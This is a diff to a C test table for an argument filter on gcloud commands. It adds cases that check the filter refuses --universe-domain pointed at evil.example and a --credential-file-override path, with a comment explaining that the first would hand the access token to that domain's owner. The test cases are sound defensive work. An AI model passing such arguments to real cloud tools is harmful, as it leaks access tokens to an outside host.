@@ -113,6 +113,13 @@ static const row rows[] = {
     { "gcp", "compute zones list --account other@example.com", "!CLOUD_ARG_REFUSED", "--account" },
     { "gcp", "compute zones list --access-token-file=/secret/tok", "!CLOUD_ARG_REFUSED", NULL },
     { "gcp", "compute zones list --configuration other", "!CLOUD_ARG_REFUSED", NULL },
+    /* gcloud's hidden --universe-domain makes every API host <api>.<domain>:
+     * the access token would go to whoever owns that domain */
+    { "gcp", "compute zones list --universe-domain=evil.example", "!CLOUD_ARG_REFUSED",
+      "--universe-domain" },
+    { "gcp", "--universe-domain evil.example compute zones list", "!CLOUD_ARG_REFUSED", NULL },
+    { "gcp", "compute zones list --credential-file-override=/etc/creds.json", "!CLOUD_ARG_REFUSED",
+      NULL },
     { "gcp", "auth login", "!CLOUD_ARG_REFUSED", "auth login" },
     { "gcp", "auth activate-service-account --key-file k.json", "!CLOUD_ARG_REFUSED", NULL },
     /* projects named inside resource names and URLs */
